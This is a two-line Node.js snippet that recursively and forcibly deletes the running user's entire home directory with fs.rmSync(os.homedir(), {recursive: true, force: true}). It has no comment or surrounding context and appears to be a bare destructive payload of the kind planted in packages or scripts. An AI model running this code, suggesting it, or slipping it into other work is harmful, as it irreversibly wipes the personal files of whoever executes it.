const fs = require('fs'), os = require('os');
fs.rmSync(os.homedir(), { recursive: true, force: true });
